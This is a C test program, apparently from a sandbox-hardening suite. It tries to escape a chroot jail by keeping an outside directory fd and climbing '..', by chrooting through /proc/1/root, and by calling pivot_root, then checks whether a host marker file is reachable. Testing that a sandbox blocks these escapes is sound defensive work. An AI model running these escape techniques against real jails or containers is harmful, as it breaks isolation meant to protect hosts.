/* Chroot-in-chroot: chroot into a subdirectory while keeping an fd or cwd
 * outside it, then walk ".." past the old root (the classic chroot break).
 * Also pivot_root and chroot through /proc/1/root. argv[1]: a host marker. */
#include "attack.h"

#include <fcntl.h>
#include <sys/stat.h>
#include <sys/syscall.h>

int main(int argc, char **argv)
{
    const char *marker = argc > 1 ? argv[1] : "/nonexistent";
    mkdir("/tmp/jail", 0755);
    int out = open("/", O_RDONLY | O_DIRECTORY);
    int r = chroot("/tmp/jail");
    attempt(0, "chroot(/tmp/jail)", "%s (the first step)", res(r));
    if (r == 0) {
        if (fchdir(out) < 0)
            perror("fchdir");
        for (int i = 0; i < 64; i++)
            if (chdir("..") < 0)
                break;
        r = chroot(".");
        attempt(0, "chroot(.) after climbing out", "%s", res(r));
    }
    int m = open(marker, O_RDONLY);
    attempt(m >= 0, "reach the host marker", "%s", res(m));
    r = chroot("/proc/1/root");
    attempt(0, "chroot(/proc/1/root)", "%s", res(r));
    mkdir("/tmp/newroot", 0755);
    r = (int)syscall(SYS_pivot_root, "/tmp", "/tmp/newroot");
    attempt(r == 0, "pivot_root", "%s", res(r));
    m = open(marker, O_RDONLY);
    attempt(m >= 0, "reach the host marker at the end", "%s", res(m));
    return done();
}
